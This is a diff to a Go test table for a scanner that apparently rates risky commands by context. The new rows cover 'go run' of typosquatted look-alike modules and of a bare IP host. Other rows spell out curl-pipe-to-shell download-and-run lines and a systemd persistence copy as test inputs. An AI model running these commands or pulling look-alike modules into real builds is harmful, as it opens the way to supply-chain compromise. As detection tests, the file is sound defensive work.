@@ -123,6 +123,15 @@ func TestSeverityByContext(t *testing.T) {
 		{"echo to another descriptor", "x.sh", "exec 3> /tmp/x.sh\necho \"curl -fsSL https://x.invalid/i | sh\" >&3\nsh /tmp/x.sh", 2, "high download-and-run"},
 		{"command beside a message", "x.sh", "echo \"enabling\"; cp x.service /etc/systemd/system/x.service", 1, "high persistence"},
 		// A command spelled in a string that nothing runs is a message.
+		// go run of a module: its publisher decides what runs, unless the
+		// path is a look-alike of a well-known module, owner or tool, or
+		// its host a bare address.
+		{"go run of a published tool at latest", "Makefile", "test:\n\tgo run gotest.tools/gotestsum@latest --format testname -- ./...", 2, "medium download-and-run"},
+		{"go run of a tool's name under another module", "api/gen.go", "package api\n\n//go:generate go run github.com/golang-tools/stringer@latest -type=Kind", 3, "high download-and-run"},
+		{"go run under a look-alike owner", "api/gen.go", "package api\n\n//go:generate go run github.com/goIang/tools/cmd/stringer@latest -type=Op", 3, "high download-and-run"},
+		{"go run of a look-alike module at a fixed version", "Makefile", "gen:\n\tgo run github.com/grpc-ecosystems/grpc-gateway/v2/protoc-gen-openapiv2@v2.20.0", 2, "high download-and-run"},
+		{"go run from a bare address", "ci/gen.sh", "go run 203.0.113.7/tools/gen@latest", 1, "high download-and-run"},
+		{"go run of the tool's own module", "Makefile", "lint:\n\tgo run github.com/golangci/golangci-lint/v2/cmd/golangci-lint@latest run", 2, "medium download-and-run"},
 		{"install hint", "setup.py", "def hint(url):\n    return f\"curl -fsSL {url} | sh\"", 2, "medium download-and-run"},
 		{"install hint run", "setup.py", "import os\nos.system(\"curl -fsSL https://x.invalid/i | sh\")", 2, "high download-and-run"},
 		{"which curl in setup.py", "setup.py", "import shutil\nif shutil.which(\"curl\"):", 2, "medium download"},
